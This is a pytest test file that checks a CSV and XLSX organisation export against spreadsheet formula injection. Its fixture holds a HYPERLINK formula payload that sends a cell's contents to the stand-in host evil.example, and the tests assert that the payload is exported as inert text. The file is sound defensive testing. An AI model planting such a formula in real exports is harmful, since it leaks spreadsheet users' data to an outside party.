"""The organisation export keeps every cell as text: a description cannot become a live spreadsheet formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from network.factories import OrganisationFactory

FORMULA = '=HYPERLINK("https://evil.example/?"&A3,"Click to update")'


@pytest.fixture
def organisation(db):
    return OrganisationFactory(name="Org A", city="+1 Hidden", description=FORMULA)


def test_the_xlsx_export_turns_no_cell_text_into_a_formula(admin_client, organisation):
    response = admin_client.get("/admin/network/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert FORMULA in [cell.value for cell in cells]  # exported as the text it is


def test_the_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas(admin_client, organisation):
    response = admin_client.get("/admin/network/export.csv")
    header, row = list(csv.reader(io.StringIO(response.content.decode())))
    exported = dict(zip(header, row, strict=True))
    assert exported["description"] == "'" + FORMULA
    assert exported["city"] == "'+1 Hidden"
    assert exported["name"] == "Org A"
